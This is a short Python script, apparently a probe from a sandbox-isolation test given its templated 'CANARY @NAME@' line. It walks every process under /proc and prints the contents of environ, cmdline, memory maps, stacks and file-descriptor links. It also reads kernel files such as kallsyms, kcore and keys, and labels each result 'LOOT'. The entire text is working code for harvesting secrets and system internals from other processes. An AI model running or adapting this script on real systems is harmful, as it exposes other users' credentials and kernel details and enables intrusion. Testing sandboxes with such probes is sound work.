# how: the memory, environment, descriptors, maps and system calls of every process, by every file of /proc
import contextlib
import pathlib

print("CANARY @NAME@", flush=True)
for process in [*pathlib.Path("/proc").glob("[0-9]*"), pathlib.Path("/proc/thread-self")]:
    for name in "environ cmdline maps smaps auxv stack syscall wchan io mountinfo cgroup timers personality".split():
        with contextlib.suppress(OSError):
            print("LOOT", (process / name).read_bytes()[:3000])
    for name in ("cwd", "root", "exe", "fd/3", "fd/4", "fd/5", "map_files", "task", "ns/mnt"):
        with contextlib.suppress(OSError):
            place = process / name
            print("LOOT", place.readlink() if place.is_symlink() else sorted(place.iterdir())[:5])
            print("LOOT", [part for part in (place / "srv").rglob("*")][:5])
for name in ("kallsyms", "kcore", "keys", "modules", "iomem", "cmdline", "config.gz", "sched_debug", "timer_list"):
    with contextlib.suppress(OSError):
        print("LOOT", pathlib.Path("/proc", name).read_bytes()[:2000])
